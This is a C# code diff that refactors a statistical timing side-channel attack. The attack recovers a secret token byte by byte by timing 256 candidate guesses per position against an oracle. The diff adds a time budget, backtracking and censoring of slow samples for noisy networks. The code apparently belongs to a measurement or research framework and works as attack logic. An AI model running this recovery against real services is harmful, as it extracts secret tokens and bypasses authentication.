@@ -26,6 +26,15 @@ public sealed record RecoveryOptions
     /// <summary>Stop at the first byte without a significant leak (otherwise keep the best guess and go on).</summary>
     public bool StopOnFailure { get; init; } = true;
 
+    /// <summary>
+    /// Response-time technique: fraction of the pooled samples (fastest first) that orders the candidates; the slower rest
+    /// is censored (tied). 1 keeps everything; over a loaded network the fast end carries the leak and the slow end the load.
+    /// </summary>
+    public double Keep { get; init; } = 1.0;
+
+    /// <summary>How often, in one attack, a byte without a leak sends the attack back to re-decide the byte before it.</summary>
+    public int MaxBacktracks { get; init; } = 1;
+
     /// <summary>Sample-size schedule of the looks: InitialSamples, x Growth, ..., MaxSamples.</summary>
     public IReadOnlyList<int> Schedule()
     {
@@ -50,6 +59,9 @@ public sealed record RecoveryOptions
 }
 
 /// <summary>What the attack concluded about one byte position.</summary>
+/// <param name="BestEstimateNs">Response time: the best candidate's estimate in ns. Response order: the share of its races
+/// it answered last (0..1); likewise runner-up and rest.</param>
+/// <param name="OutOfTime">The time budget ended while this byte was being decided (nothing claimed for it).</param>
 public sealed record ByteResult(
     int Position,
     bool Significant,
@@ -62,87 +74,59 @@ public sealed record ByteResult(
     double DiscoveryPValue,
     double DiscoveryThreshold,
     double ConfirmPValue,
-    TimeSpan Elapsed);
+    TimeSpan Elapsed,
+    bool OutOfTime = false);
 
+/// <param name="Bytes">Every decision in order, including a byte decided again after a backtrack.</param>
+/// <param name="Recovered">The leading bytes decided with a significant leak (empty when byte 0 showed none).</param>
 public sealed record RecoveryResult(
     IReadOnlyList<ByteResult> Bytes,
-    // The leading bytes decided with a significant leak (empty when byte 0 showed none).
     byte[] Recovered,
     bool Complete,
     bool AcceptedByOracle,
     long TotalQueries,
-    TimeSpan Elapsed);
+    TimeSpan Elapsed)
+{
+    /// <summary>The attack stopped because its time budget was used up, not for lack of a leak.</summary>
+    public bool OutOfTime { get; init; }
+}
 
 /// <summary>
-/// Recovers a token byte by byte from timing alone. For each position: all 256 candidates
+/// Recovers a token byte by byte from response times alone. For each position: all 256 candidates
 /// (known prefix + candidate + zero filler) are sampled round-robin in a freshly shuffled order per
 /// round (cancels drift and order effects); at each look of the schedule the <see cref="LeakDetector"/>
-/// tests the slowest candidate against the rest; a discovery is then confirmed on fresh samples
-/// (best vs runner-up) before the byte is accepted. Uses nothing but <see cref="ITimingOracle.Query"/>'s time.
+/// ranks all samples together and tests the slowest candidate against the rest; a discovery is then confirmed
+/// on fresh samples (best vs runner-up) before the byte is accepted. Uses nothing but <see cref="ITimingOracle.Query"/>'s time.
 /// </summary>
-public sealed class ByteRecoverer(ITimingOracle oracle, RecoveryOptions options)
+public sealed class ByteRecoverer(ITimingOracle oracle, RecoveryOptions options) : PrefixRecoverer(options)
 {
     private const int Candidates = 256;
 
-    public RecoveryResult Recover(Action<ByteResult>? onByte = null)
-    {
-        ArgumentNullException.ThrowIfNull(oracle);
-        var total = Stopwatch.StartNew();
-        var rng = new Random(options.Seed);
-        var length = oracle.TokenLength;
-        var known = new byte[length];
-        var results = new List<ByteResult>();
-        long queries = 0;
+    protected override int TokenLength => oracle.TokenLength;
 
-        var warm = new byte[length];
-        for (var i = 0; i < options.WarmupQueries; i++)
+    protected override long Warmup(Random rng)
+    {
+        var warm = new byte[oracle.TokenLength];
+        for (var i = 0; i < Options.WarmupQueries; i++)
         {
             rng.NextBytes(warm);
             oracle.Query(warm);
         }
 
-        queries += options.WarmupQueries;
-        var complete = true;
-        for (var pos = 0; pos < length; pos++)
-        {
-            var r = RecoverByte(known, pos, rng);
-            queries += r.Queries;
-            results.Add(r);
-            onByte?.Invoke(r);
-            known[pos] = r.Value;
-            if (!r.Significant)
-            {
-                complete = false;
-                if (options.StopOnFailure)
-                {
-                    break;
-                }
-            }
-        }
-
-        var accepted = false;
-        if (complete)
-        {
-            accepted = oracle.Query(known).Accepted; // one query to see if the door opens
-            queries++;
-        }
-
-        // Only the leading bytes that were significant count as recovered; a non-significant guess is no claim.
-        var decided = results.TakeWhile(r => r.Significant).Count();
-        var recovered = known.AsSpan(0, decided).ToArray();
-        TimingMetrics.AttackQueries.Add(queries);
-        return new RecoveryResult(results, recovered, complete, accepted, queries, total.Elapsed);
+        return Options.WarmupQueries;
     }
 
-    private ByteResult RecoverByte(byte[] known, int pos, Random rng)
+    protected override bool Accepts(byte[] token) => oracle.Query(token).Accepted;
+
+    protected override ByteResult DecideByte(byte[] known, int pos, Random rng)
     {
         var sw = Stopwatch.StartNew();
-        var schedule = options.Schedule();
-        var threshold = LeakDetector.BonferroniThreshold(options.Alpha, Candidates, schedule.Count);
+        var schedule = Options.Schedule();
+        var threshold = LeakDetector.BonferroniThreshold(Options.Alpha, Candidates, schedule.Count);
         var samples = new List<double>[Candidates];
         for (var c = 0; c < Candidates; c++)
         {
-            samples[c] = new List<double>(options.MaxSamples);
+            samples[c] = new List<double>(Options.MaxSamples);
         }
 
         // One buffer for every candidate: only guess[pos] changes, so no candidate gets a different
@@ -161,25 +145,36 @@ public sealed class ByteRecoverer(ITimingOracle oracle, RecoveryOptions options)
         Detection? last = null;
         var confirmP = double.NaN;
         var have = 0;
+        var outOfTime = false;
         foreach (var target in schedule)
         {
-            for (; have < target; have++)
+            for (; have < target && !outOfTime; have++)
             {
                 rng.Shuffle(order);
                 foreach (var c in order)
                 {
                     samples[c].Add(Sample(c));
                 }
+
+                queries += Candidates;
+                CountQueries(Candidates);
+                outOfTime = Budget.IsExhausted;
             }
 
-            last = LeakDetector.Detect(samples, options.Estimator, threshold);
+            last = LeakDetector.Detect(samples, Options.Estimator, threshold, Options.Keep);
+            Report();
+            if (outOfTime)
+            {
+                break;
+            }
+
             if (!last.Significant)
             {
                 continue;
             }
 
             // Confirmation on fresh, independent samples: best vs runner-up, interleaved.
-            var n = Math.Max(options.InitialSamples, target);
+            var n = Math.Max(Options.InitialSamples, target);
             var bestFresh = new double[n];
             var runnerFresh = new double[n];
             for (var i = 0; i < n; i++)
@@ -197,20 +192,19 @@ public sealed class ByteRecoverer(ITimingOracle oracle, RecoveryOptions options)
             }
 
             queries += 2L * n;
-            confirmP = LeakDetector.Confirm(bestFresh, runnerFresh).PValue;
-            if (confirmP < options.Alpha)
+            CountQueries(2L * n);
+            confirmP = LeakDetector.Confirm(bestFresh, runnerFresh, Options.Keep).PValue;
+            if (confirmP < Options.Alpha)
             {
-                queries += (long)have * Candidates;
                 TimingMetrics.SamplesPerByte.Record(have);
                 return new ByteResult(pos, true, (byte)last.Best, have, queries, last.BestEstimate,
                     last.RunnerUpEstimate, last.RestEstimate, last.Test.PValue, threshold, confirmP, sw.Elapsed);
             }
         }
 
-        queries += (long)have * Candidates;
         TimingMetrics.SamplesPerByte.Record(have);
         var d = last!;
         return new ByteResult(pos, false, (byte)d.Best, have, queries, d.BestEstimate, d.RunnerUpEstimate,
-            d.RestEstimate, d.Test.PValue, threshold, confirmP, sw.Elapsed);
+            d.RestEstimate, d.Test.PValue, threshold, confirmP, sw.Elapsed, outOfTime);
     }
 }
